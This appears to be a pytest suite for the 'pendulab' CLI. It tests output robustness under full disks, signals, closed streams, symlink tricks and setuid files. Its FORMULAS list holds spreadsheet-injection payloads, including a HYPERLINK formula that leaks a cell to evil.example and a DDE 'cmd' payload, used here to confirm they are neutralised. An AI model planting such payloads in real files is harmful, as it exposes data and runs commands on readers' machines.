"""Nothing lost, nobody in: each attack on the CLI's outputs reproduced as a person meets it.

- a full disk (a 64 KiB tmpfs, as root) and ``ulimit -f``: one line, a non-zero status, the
  old outputs whole, no temporary file left;
- closed and full standard streams: one line (silence where standard error is gone);
- SIGHUP and SIGQUIT at varied moments: one line and 129/131, like SIGTERM;
- a run killed between the renames of files written as one: the next run finishes them;
- temporary folders of a killed run: removed by the next one;
- another user's link in a sticky folder, a link to a file of another type, a setuid old file;
- spreadsheet formulas as student names; joiners in names.
"""
from __future__ import annotations

import contextlib
import csv
import io
import os
import resource
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pendulab.core import atomic, inputs
from pendulab.core.errors import InputError
from pendulab.core.streams import CheckedText, WriteError, write_all
from pendulab.report.key import FORMULA_STARTS, plain_cell
from signals import default_signals


def pendulab(*args, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=None,
             timeout=300, cwd=None, preexec_fn=None, pass_fds=()):
    return subprocess.run([sys.executable, "-m", "pendulab", *map(str, args)], stdin=stdin, stdout=stdout,
                          stderr=stderr, timeout=timeout, env={**os.environ, **(env or {})}, cwd=cwd,
                          preexec_fn=preexec_fn, pass_fds=pass_fds)


def groups_file(folder: Path, count: int) -> Path:
    path = folder / "groups.txt"
    # no student in two groups: the only line on stderr is the one under test
    path.write_text("".join(f"{100 + i} {2000 + 3 * i} {5000 + 7 * i}\n" for i in range(count)))
    return path


@pytest.fixture
def full_disk(tmp_path):
    """A 64 KiB tmpfs (root only; skipped elsewhere): the full disk of the attack."""
    where = tmp_path / "full"
    where.mkdir()
    res = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(where)], capture_output=True)
    if res.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here ({res.stderr.decode().strip()})")
    try:
        yield where
    finally:
        subprocess.run(["umount", "-l", str(where)], capture_output=True)


def one_line(res, *fragments):
    lines = res.stderr.decode().splitlines()
    assert len(lines) == 1 and "Traceback" not in res.stderr.decode(), res.stderr.decode()
    for f in fragments:
        assert f in lines[0], (f, lines[0])
    return lines[0]


# --- the checked writer ---------------------------------------------------------------------------


def test_write_all_loops_on_short_writes(monkeypatch):
    """A descriptor that takes 7 bytes per call still gets every byte, in order."""
    r, w = os.pipe()
    real = os.write
    monkeypatch.setattr(os, "write", lambda fd, data: real(fd, bytes(data[:7])))
    try:
        write_all(w, b"0123456789" * 5, "a pipe")
    finally:
        os.close(w)
    with os.fdopen(r, "rb") as f:
        assert f.read() == b"0123456789" * 5


def test_a_write_that_takes_nothing_is_a_full_disk(monkeypatch):
    monkeypatch.setattr(os, "write", lambda fd, data: 0)
    with pytest.raises(WriteError, match="No space left on device"):
        write_all(1, b"x", "standard output")


def test_the_checked_stream_keeps_the_text_and_raises_on_dev_full():
    with open("/dev/full", "wb") as full:
        s = CheckedText(full.fileno(), "standard output")
        s.write("x" * 10)  # buffered: nothing tried yet
        with pytest.raises(WriteError, match="No space left on device"):
            s.flush()
    r, w = os.pipe()
    s = CheckedText(w, "a pipe")
    s.write("Ana Sá\n")
    s.flush()
    os.close(w)
    assert os.read(r, 100) == "Ana Sá\n".encode()
    os.close(r)


@pytest.mark.slow
def test_a_full_tmpfs_on_stdout_is_one_line_never_a_short_success(full_disk, tmp_path):
    """``key --json > full/k.json`` (about 100 KB) and ``simulate --csv > full/t.csv`` (MB):
    status 1 and one line, never 0 with 64 KiB written."""
    groups = groups_file(tmp_path, 120)
    for args in (["key", "--groups", groups, "--json"], ["simulate", "--step", "1e-4", "--t-max", "20", "--csv"]):
        with open(full_disk / "out", "wb") as out:
            res = pendulab(*args, stdout=out)
        assert res.returncode == 1
        one_line(res, "cannot write to standard output: No space left on device")
        (full_disk / "out").unlink()


@pytest.mark.slow
def test_a_full_tmpfs_keeps_the_old_key_pair_and_leaves_nothing(full_disk, tmp_path):
    """The key and its class file on a disk with room for the old pair only: one line, status
    1, both old files as they were, no temporary file or journal beside them."""
    groups = groups_file(tmp_path, 120)
    out, side = full_disk / "k.csv", full_disk / "k-class.csv"
    out.write_text("old key\n")
    side.write_text("old class\n")
    ballast = full_disk / "ballast"
    with contextlib.suppress(OSError), open(ballast, "wb") as f:  # the disk full but for 16 KiB
        f.write(b"\0" * (64 * 1024 - 16 * 1024))
    res = pendulab("key", "--groups", groups, "--output", out)
    assert res.returncode == 1
    one_line(res, "pendulab key: error: cannot write to", "No space left on device")
    assert (out.read_text(), side.read_text()) == ("old key\n", "old class\n")
    assert sorted(p.name for p in full_disk.iterdir()) == ["ballast", "k-class.csv", "k.csv"]


@pytest.mark.slow
def test_the_programs_on_a_full_disk_are_all_old_or_all_new(full_disk):
    """``programs --output`` into a folder with room for a few of its 8 files: none written."""
    folder = full_disk / "progs"
    folder.mkdir()
    with contextlib.suppress(OSError), open(full_disk / "ballast", "wb") as f:
        f.write(b"\0" * (64 * 1024 - 12 * 1024))
    res = pendulab("programs", "--output", folder)
    assert res.returncode in (1, 2)
    one_line(res, "pendulab programs: error:")
    assert list(folder.iterdir()) == []


def _fsize(limit: int):
    def set_limit() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return set_limit


@pytest.mark.slow
def test_a_file_size_limit_is_one_line(tmp_path):
    """``ulimit -f`` below a figure's size: no SIGXFSZ death, one line, status 1, no file left."""
    pytest.importorskip("matplotlib")
    res = pendulab("simulate", "--plot", tmp_path / "f.png", "--t-max", "2", preexec_fn=_fsize(4096), cwd=tmp_path)
    assert res.returncode == 1
    one_line(res, "pendulab simulate: error: cannot write to", "File too large")
    assert list(tmp_path.iterdir()) == []


# --- several files as one: the journal ----------------------------------------------------------------


def test_a_commit_killed_between_its_renames_is_finished_by_the_next_run(tmp_path):
    """SIGKILL right after the first rename of a pair: the journal stays, and the next write
    into the folder (or check before it) completes the pair: both new, nothing left over."""
    a, b = tmp_path / "k.csv", tmp_path / "k-class.csv"
    a.write_text("old a")
    b.write_text("old b")
    code = (
        "import os, signal, sys\n"
        "from pendulab.core import atomic\n"
        "real = os.replace\n"
        "def replace(src, dst):\n"
        "    real(src, dst)\n"
        f"    if str(dst) == {str(a)!r}:\n"
        "        os.kill(os.getpid(), signal.SIGKILL)\n"
        "atomic.os.replace = replace\n"
        f"atomic.write_together([({str(a)!r}, b'new a'), ({str(b)!r}, b'new b')])\n"
    )
    res = subprocess.run([sys.executable, "-c", code], capture_output=True, timeout=120)
    assert res.returncode == -signal.SIGKILL
    assert (a.read_text(), b.read_text()) == ("new a", "old b")  # the moment no program can avoid
    assert any(p.name.endswith(".journal") for p in tmp_path.iterdir())
    atomic.check_writable("output", a)  # what every command does before its work
    assert (a.read_text(), b.read_text()) == ("new a", "new b")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["k-class.csv", "k.csv"]


def test_a_commit_killed_before_its_journal_leaves_the_old_pair_and_its_files_are_swept(tmp_path):
    a, b = tmp_path / "k.csv", tmp_path / "k-class.csv"
    a.write_text("old a")
    code = (
        "import os, signal\n"
        "from pendulab.core import atomic\n"
        "atomic._commit_journal = lambda staged: os.kill(os.getpid(), signal.SIGKILL)\n"
        f"atomic.write_together([({str(a)!r}, b'new a'), ({str(b)!r}, b'new b')])\n"
    )
    res = subprocess.run([sys.executable, "-c", code], capture_output=True, timeout=120)
    assert res.returncode == -signal.SIGKILL
    assert len(list(tmp_path.iterdir())) == 3  # the old key and two temporary files
    atomic.write_bytes(tmp_path / "other.txt", b"x")  # any write into the folder sweeps them
    assert sorted(p.name for p in tmp_path.iterdir()) == ["k.csv", "other.txt"] and a.read_text() == "old a"


def test_a_live_process_temporary_files_are_left_alone(tmp_path):
    mine = tmp_path / f".pendulab-{os.getppid()}-{'0' * 16}.tmp"  # the parent runs
    mine.write_text("in use")
    atomic.recover(tmp_path)
    assert mine.exists()


def test_temporary_folders_of_a_killed_run_are_swept(tmp_path, monkeypatch):
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    import tempfile

    monkeypatch.setattr(tempfile, "tempdir", None)
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    stale = tmp_path / f"pendulab-report-{dead.pid}-abc123"
    (stale / "figs").mkdir(parents=True)
    (stale / "figs" / "f.svg").write_text("x")
    alive = tmp_path / f"pendulab-report-{os.getppid()}-def456"
    alive.mkdir()
    with atomic.temp_folder("pendulab-report-") as folder:
        assert folder.parent == tmp_path and folder.name.startswith(f"pendulab-report-{os.getpid()}-")
        assert not stale.exists() and alive.exists()
    assert not folder.exists()


# --- standard streams ------------------------------------------------------------------------------


def test_a_closed_stdout_is_one_line():
    res = pendulab("period", "--json", stdout=None, preexec_fn=lambda: os.close(1))
    assert res.returncode == 1
    one_line(res, "pendulab period: error: cannot write to standard output: Bad file descriptor")


def test_a_closed_stdin_is_one_line(tmp_path):
    res = pendulab("key", "--groups", "-", stdin=None, preexec_fn=lambda: os.close(0), cwd=tmp_path)
    assert res.returncode == 2
    one_line(res, "--groups", "Bad file descriptor")


@pytest.mark.slow
def test_a_closed_or_full_stderr_is_silent_and_the_work_done(tmp_path):
    """``simulate --plot f.png 2>&-``: the figure written, status 0; a bad option with a full
    standard error: status 2, nothing else (the message has nowhere to go)."""
    pytest.importorskip("matplotlib")
    res = pendulab("simulate", "--plot", tmp_path / "f.png", "--t-max", "2", stderr=None,
                   preexec_fn=lambda: os.close(2))
    assert res.returncode == 0 and (tmp_path / "f.png").stat().st_size > 1000
    with open("/dev/full", "w") as full:
        res = pendulab("period", "--length", "-1", stderr=full)
    assert res.returncode == 2
    res = pendulab("period", "--json", stdout=None, stderr=None, preexec_fn=lambda: (os.close(1), os.close(2)))
    assert res.returncode == 1  # stdout closed, nowhere to say so: the status tells


@pytest.mark.slow
def test_serve_starts_without_a_terminal():
    """``pendulab serve >&- 2>&- <&-``: the explorer answers."""
    import urllib.request

    from served import free_port

    port = free_port()
    proc = subprocess.Popen([sys.executable, "-m", "pendulab", "serve", "--port", str(port)],
                            stdin=None, stdout=None, stderr=None, preexec_fn=lambda: [os.close(f) for f in (0, 1, 2)])
    try:
        for _ in range(600):  # at most 120 s
            with contextlib.suppress(OSError), urllib.request.urlopen(f"http://127.0.0.1:{port}/api/config",
                                                                      timeout=2) as r:
                assert r.status == 200
                break
            assert proc.poll() is None, proc.returncode
            time.sleep(0.2)
        else:
            raise AssertionError("the explorer never answered")
    finally:
        proc.terminate()
        proc.wait(30)


# --- SIGHUP and SIGQUIT ------------------------------------------------------------------------------


def _handled(pid: int, sig: int) -> bool:
    try:
        with open(f"/proc/{pid}/status") as f:
            mask = int(next(line for line in f if line.startswith("SigCgt:")).split()[1], 16)
    except (OSError, StopIteration):
        return False
    return bool(mask >> (sig - 1) & 1)


#: About 4 * 10^9 steps (30 s here): work that outlasts the last signal (2.4 s) by a wide margin
#: on a machine several times faster, so that every try stops a running estimate.
ESTIMATE = ["estimate", "-l", "1", "-a", "2", "--step", "1e-3,2e-9"]


@pytest.mark.slow
@pytest.mark.parametrize(("sig", "word"), [(signal.SIGHUP, "hung up"), (signal.SIGQUIT, "quit")])
def test_sighup_and_sigquit_end_a_run_like_sigterm(tmp_path, sig, word):
    """The terminal closed (SIGHUP) or Ctrl+\\ (SIGQUIT) at moments spread over the start and
    the run: one line, status 128 + the signal, no temporary folder left, never a core dump."""
    tmpdir = tmp_path / "tmp"
    tmpdir.mkdir()
    for i in range(5):
        proc = subprocess.Popen([sys.executable, "-m", "pendulab", *ESTIMATE], stdout=subprocess.DEVNULL,
                                stderr=subprocess.PIPE, env={**os.environ, "TMPDIR": str(tmpdir)},
                                preexec_fn=default_signals)
        for _ in range(6000):
            if _handled(proc.pid, sig) or proc.poll() is not None:
                break
            time.sleep(0.005)
        time.sleep(0.6 * i)
        proc.send_signal(sig)
        _, err = proc.communicate(timeout=300)  # a hang guard: a run the signal did not stop goes on
        assert proc.returncode == 128 + sig, (i, proc.returncode, err)
        assert err.decode().splitlines() in ([f"pendulab estimate: {word}"], [f"pendulab: {word}"]), err
        assert list(tmpdir.iterdir()) == []


@pytest.mark.slow
def test_sighup_during_the_key_keeps_the_old_pair(tmp_path):
    groups = groups_file(tmp_path, 600)
    out, side = tmp_path / "key.csv", tmp_path / "key-class.csv"
    for delay in (0.5, 2.0, 4.0):
        out.write_text("old key\n")
        side.write_text("old class\n")
        proc = subprocess.Popen([sys.executable, "-m", "pendulab", "key", "--groups", groups, "--output", out],
                                stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, preexec_fn=default_signals)
        for _ in range(6000):
            if _handled(proc.pid, signal.SIGHUP) or proc.poll() is not None:
                break
            time.sleep(0.005)
        time.sleep(delay)
        proc.send_signal(signal.SIGHUP)
        _, err = proc.communicate(timeout=300)
        pair = out.read_text() == "old key\n", side.read_text() == "old class\n"
        assert pair == ((False, False) if proc.returncode == 0 else (True, True)), (proc.returncode, err)
        if proc.returncode:
            assert proc.returncode == 129, err  # "pendulab: hung up" while the command line loaded
            assert err.decode().splitlines() in (["pendulab key: hung up"], ["pendulab: hung up"]), err
        assert sorted(p.name for p in tmp_path.iterdir()) == ["groups.txt", "key-class.csv", "key.csv"]


@pytest.mark.slow  # a pendulab process (seconds)
def test_a_swallowed_signal_still_ends_the_command_before_its_output(tmp_path):
    """A SIGTERM whose ``Terminated`` some code swallowed (an ``except BaseException`` on the
    way, as in a callback): the output is not committed and the status is 143."""
    out = tmp_path / "k.json"
    out.write_text("old")
    groups = groups_file(tmp_path, 1)
    code = (
        "import os, signal, sys\n"
        "from pendulab.jobs import key\n"
        "real = key.answer_key\n"
        "def swallowing(groups):\n"
        "    try:\n"
        "        os.kill(os.getpid(), signal.SIGTERM)\n"
        "    except BaseException:\n"
        "        pass\n"
        "    return real(groups)\n"
        "key.answer_key = swallowing\n"
        f"sys.argv = ['pendulab', 'key', '--groups', {str(groups)!r}, '--output', {str(out)!r}]\n"
        "from pendulab.__main__ import run\n"
        "sys.exit(run())\n"
    )
    res = subprocess.run([sys.executable, "-c", code], capture_output=True, timeout=300, preexec_fn=default_signals)
    assert res.returncode == 143 and res.stderr.decode().splitlines() == ["pendulab key: terminated"], res.stderr
    assert out.read_text() == "old"


# --- files that belong to someone else ---------------------------------------------------------------


def _as_nobody(job) -> None:
    """Run ``job()`` in a forked child as the user ``nobody`` (65534)."""
    pid = os.fork()
    if pid == 0:  # pragma: no cover - the child
        try:
            os.setgid(65534)
            os.setuid(65534)
            job()
            os._exit(0)
        except BaseException:
            os._exit(1)
    _, status = os.waitpid(pid, 0)
    assert os.waitstatus_to_exitcode(status) == 0


@pytest.mark.skipif(os.geteuid() != 0, reason="a second user's link needs root to make (setuid in a child)")
def test_another_users_link_in_a_sticky_folder_is_never_written_through(tmp_path, cli, request):
    request_cleanup = request.addfinalizer
    import shutil
    import tempfile

    sticky = Path(tempfile.mkdtemp(prefix="pendulab-test-sticky-", dir="/tmp"))  # /tmp: nobody reaches it
    request_cleanup(lambda: shutil.rmtree(sticky, ignore_errors=True))
    os.chmod(sticky, 0o1777)
    victim = tmp_path / "victim.csv"
    victim.write_text("precious\n")
    link = sticky / "key.csv"
    _as_nobody(lambda: os.symlink(victim, link))
    assert link.lstat().st_uid == 65534
    groups = groups_file(tmp_path, 1)
    res = cli("key", "--groups", groups, "--output", link)
    assert res.code == 2 and "another user's link" in res.err and len(res.err.splitlines()) == 1, res.err
    with pytest.raises(InputError, match="another user's link"):
        atomic.write_bytes(link, b"new")
    assert victim.read_text() == "precious\n" and link.is_symlink()


def test_a_link_to_a_file_of_another_type_is_refused(tmp_path, cli):
    notes = tmp_path / "notes.txt"
    notes.write_text("my notes\n")
    (tmp_path / "report.csv").symlink_to(notes)
    res = cli("key", "--groups", groups_file(tmp_path, 1), "--output", tmp_path / "report.csv")
    assert res.code == 2 and "a link to a file of the same type" in res.err, res.err
    assert notes.read_text() == "my notes\n"
    own = tmp_path / "real.csv"  # a link of one's own to a file of the same type: written through
    own.write_text("old")
    (tmp_path / "k.csv").symlink_to(own)
    atomic.write_bytes(tmp_path / "k.csv", b"new")
    assert own.read_text() == "new" and (tmp_path / "k.csv").is_symlink()


def test_setuid_and_setgid_bits_are_never_copied(tmp_path):
    out = tmp_path / "k.json"
    out.write_text("old")
    os.chmod(out, 0o6755)
    atomic.write_bytes(out, b"new")
    assert stat.S_IMODE(out.stat().st_mode) == 0o755
    os.chmod(out, 0o4700)
    atomic.write_together([(out, b"newer"), (tmp_path / "other", b"x")])
    assert stat.S_IMODE(out.stat().st_mode) == 0o700


# --- names and CSV cells ------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"grade")', "+SUM(1,2)", "@SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
            "=1+1"]


def test_formula_names_are_plain_text_in_the_key_csv(tmp_path, cli):
    groups = tmp_path / "groups.txt"
    lines = [f"{100 + i} {200 + i} {300 + i} | {f}; Ana; Rui" for i, f in enumerate(FORMULAS)]
    groups.write_text("\n".join(lines) + "\n")
    res = cli("key", "--groups", groups, "--output", tmp_path / "k.csv")
    assert res.code == 0, res.err
    rows = list(csv.DictReader(io.StringIO((tmp_path / "k.csv").read_text())))
    for row, f in zip(rows, FORMULAS):
        assert row["names"] == f"'{f}; Ana; Rui"
        for cell in row.values():  # numbers stay numbers; no cell a spreadsheet would run
            assert not cell.startswith(FORMULA_STARTS) or float(cell) < 0


@given(st.text(max_size=30))
def test_no_cell_starts_a_formula_and_the_text_is_kept(text):
    cell = plain_cell(text)
    if cell.startswith(FORMULA_STARTS):  # only a number may
        float(cell)
    assert cell in (text, "'" + text)


@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers(-10**20, 10**20))
def test_numbers_are_untouched(x):
    assert plain_cell(repr(x)) == repr(x)


@pytest.mark.parametrize("name", ["\u0645\u0647\u200c\u0633\u0627", "\u0915\u094d\u200d\u0937", "Zo\u0308e\u0301"])
def test_joiners_are_accepted_in_names(name):
    assert inputs.names("names", name, 1) == (name,)


def test_a_tower_of_combining_marks_is_refused():
    with pytest.raises(InputError, match="at most 4 accents on a letter"):
        inputs.names("names", "A" + "\u0301" * 5, 1)
    assert inputs.names("names", "A" + "\u0301" * 4, 1)


# --- smaller holes -----------------------------------------------------------------------------------


def test_the_groups_read_from_stdin_cannot_be_the_output(tmp_path):
    groups = groups_file(tmp_path, 1).rename(tmp_path / "groups.csv")
    before = groups.read_text()
    with open(groups) as f:
        res = pendulab("key", "--groups", "-", "--output", groups, stdin=f)
    assert res.returncode == 2
    one_line(res, "--output", "other than the groups file", "standard input reads it")
    assert groups.read_text() == before


def test_a_silent_stdin_pipe_times_out(monkeypatch, cli):
    from pendulab.jobs import key

    monkeypatch.setattr(key, "READ_TIMEOUT", 0.3)
    r, w = os.pipe()  # a writer that never writes (``sleep 40 | pendulab key --groups -``)
    try:
        with os.fdopen(r, "r") as stdin:
            monkeypatch.setattr(sys, "stdin", stdin)
            res = cli("key", "--groups", "-")
    finally:
        os.close(w)
    assert res.code == 2 and "nothing came in 0.3 s" in res.err, res.err


def test_the_phase_portrait_cannot_overwrite_figure_1(cli, tmp_path):
    res = cli("simulate", "--plot", tmp_path / "f.png", "--phase", f"{tmp_path}/./f.png")
    assert res.code == 2 and "--phase" in res.err and "other than --plot's" in res.err, res.err
    assert not (tmp_path / "f.png").exists()


# --- every environment -------------------------------------------------------------------------------


ODD_NUMBA = [("NUMBA_NUM_THREADS", "0"), ("NUMBA_NUM_THREADS", "-3"), ("NUMBA_NUM_THREADS", "lots"), ("NUMBA_OPT", "9")]


def _odd_numba_note(name, value):
    return (f"pendulab: note: {name}={value} is not allowed "
            f"({'a whole number >= 1' if name == 'NUMBA_NUM_THREADS' else '0, 1, 2, 3 or max'}): "
            "ignored, numba's default is used")


@pytest.mark.parametrize(("name", "value"), ODD_NUMBA)
def test_an_odd_numba_setting_is_dropped_with_its_note(name, value):
    """In-process, each value: one note, and the setting gone before numba's import reads it."""
    from pendulab.core.environ import odd_numba_settings

    env = {name: value, "HOME": "/x"}
    assert odd_numba_settings(env) == [_odd_numba_note(name, value)] and env == {"HOME": "/x"}


@pytest.mark.slow  # a pendulab process each (seconds)
@pytest.mark.parametrize(("name", "value"), ODD_NUMBA)
def test_odd_numba_settings_are_one_note_and_the_work_done(name, value):
    res = pendulab("sweep", "--amplitude", "0.1:1:4", "--step", "1e-2", env={name: value})
    assert res.returncode == 0, res.stderr.decode()
    assert res.stderr.decode().splitlines() == [_odd_numba_note(name, value)]
    assert res.stdout


def test_allowed_numba_settings_are_kept():
    from pendulab.core.environ import odd_numba_settings

    env = {"NUMBA_NUM_THREADS": "2", "NUMBA_OPT": "max"}
    assert odd_numba_settings(env) == [] and env == {"NUMBA_NUM_THREADS": "2", "NUMBA_OPT": "max"}


@pytest.mark.slow
def test_no_writable_temporary_folder_is_one_line(request):
    """/tmp and /var/tmp read-only (a private mount namespace, root only), the current folder
    too: the key's PDF needs a temporary folder and says so in one line; a command that needs
    none works."""
    pytest.importorskip("typst")
    import shutil
    import tempfile

    if not os.path.isdir("/dev/shm"):
        pytest.skip("no /dev/shm to hold the test's files outside /tmp")
    tmp_path = Path(tempfile.mkdtemp(dir="/dev/shm"))  # /tmp is read-only in the namespace
    request.addfinalizer(lambda: shutil.rmtree(tmp_path, ignore_errors=True))
    groups = groups_file(tmp_path, 1)
    # Read-only binds, not empty mounts: the interpreter itself may live under /tmp (a clone there).
    script = ("mount --bind /tmp /tmp && mount -o remount,bind,ro /tmp && "
              "mount --bind /var/tmp /var/tmp && mount -o remount,bind,ro /var/tmp && cd /proc && "
              f"exec {sys.executable} -m pendulab \"$@\"")
    def run(*args):
        return subprocess.run(["unshare", "-m", "sh", "-c", script, "sh", *map(str, args)], capture_output=True,
                              timeout=300, env={**os.environ, "TMPDIR": "/tmp"})

    probe = subprocess.run(["unshare", "-m", "true"], capture_output=True)
    if probe.returncode != 0:
        pytest.skip("no private mount namespace here (unshare -m needs root)")
    res = run("key", "--groups", groups, "--output", tmp_path / "k.pdf")
    assert res.returncode == 1
    one_line(res, "pendulab key: error: cannot write to a temporary folder: none is writable")
    assert not (tmp_path / "k.pdf").exists()
    assert run("simulate", "--t-max", "1").returncode == 0


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["nbi", "nbc"])
def test_a_cache_file_replaced_by_a_folder_is_compiled_again(tmp_path, kind):
    cache = tmp_path / "cache"
    env = {"NUMBA_CACHE_DIR": str(cache)}
    assert pendulab("simulate", "--t-max", "0.2", env=env).returncode == 0
    files = sorted(cache.rglob(f"*.{kind}"))
    assert files
    for f in files:
        f.unlink()
        f.mkdir()
    res = pendulab("simulate", "--t-max", "0.2", env=env)
    assert res.returncode == 0 and b"Traceback" not in res.stderr and len(res.stderr.splitlines()) <= 1, res.stderr


# --- names laid out within the page ------------------------------------------------------------------


@given(st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=100))
def test_break_points_are_invisible_and_bound_every_unbroken_run(text):
    import unicodedata

    from pendulab.report.typeset import BREAK_EVERY, breakable

    out = breakable(text)
    assert out.replace("\u200b", "") == text.replace("\u200b", "")
    for run in out.replace("\u200b", " ").split():
        marks = sum(bool(unicodedata.combining(c)) or c in "\u200c\u200d" for c in run)
        assert len(run) <= BREAK_EVERY + marks + 1 or marks > 0


@pytest.mark.slow
def test_an_80_character_name_stays_in_the_keys_column(tmp_path, cli):
    """A name of 80 letters with no space and one of 80 characters with spaces: in the key's
    PDF every piece of them lies left of the next column (pdftotext's word boxes)."""
    pytest.importorskip("typst")
    import shutil
    import xml.etree.ElementTree as ET

    if shutil.which("pdftotext") is None:
        pytest.skip("pdftotext (poppler-utils) is not installed")
    long = "W" * inputs.MAX_NAME
    spaced = ("Maria da Conceição Albuquerque Vasconcelos de Magalhães Sobral Pereira Fonseca Luís"
              )[:inputs.MAX_NAME]
    groups = tmp_path / "g.csv"
    groups.write_text(f"262 407 634 | {spaced}; {long}; Ana\n")
    res = cli("key", "--groups", groups, "--output", tmp_path / "k.pdf")
    assert res.code == 0, res.err
    subprocess.run(["pdftotext", "-bbox", "-f", "1", "-l", "1", tmp_path / "k.pdf", tmp_path / "k.html"], check=True)
    words = [(w.text or "", float(w.get("xMin")), float(w.get("xMax")))
             for w in ET.parse(tmp_path / "k.html").getroot().iter("{http://www.w3.org/1999/xhtml}word")]
    sum_left = next(x0 for text, x0, _ in words if text == "sum")
    pieces = [w for w in words if "WWW" in w[0] or w[0] in ("Vasconcelos", "Magalhães", "Fonseca")]
    assert sum("W" * 1 in w[0] for w in pieces) >= 2 and pieces
    assert all(x1 < sum_left for _, _, x1 in pieces), (sum_left, pieces)
